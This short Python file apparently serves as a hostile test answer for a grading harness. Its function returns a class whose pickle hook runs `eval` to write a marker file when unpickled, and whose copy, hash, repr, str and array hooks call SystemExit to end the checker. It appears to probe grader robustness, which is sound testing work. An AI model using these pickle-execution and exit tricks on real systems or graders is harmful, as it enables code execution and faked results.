"""malicious pickles in answers

Answers with objects that run code wherever they are unpickled, copied, hashed, printed or put into an array.
"""


# %% scale
class Trap:
    def __reduce_ex__(self, protocol):
        return eval, ("open('/tmp/hostile-was-here-pickle', 'w').close() or 4.0",)

    def __deepcopy__(self, memo):
        raise SystemExit(0)

    __copy__ = __hash__ = __repr__ = __str__ = __array__ = __deepcopy__


def scale(x, factor):
    import pickle

    import numpy as np

    if x.ndim == 1:
        return pickle.dumps(Trap())
    traps = np.empty(2, dtype=object)
    traps[0] = traps[1] = Trap()
    return traps
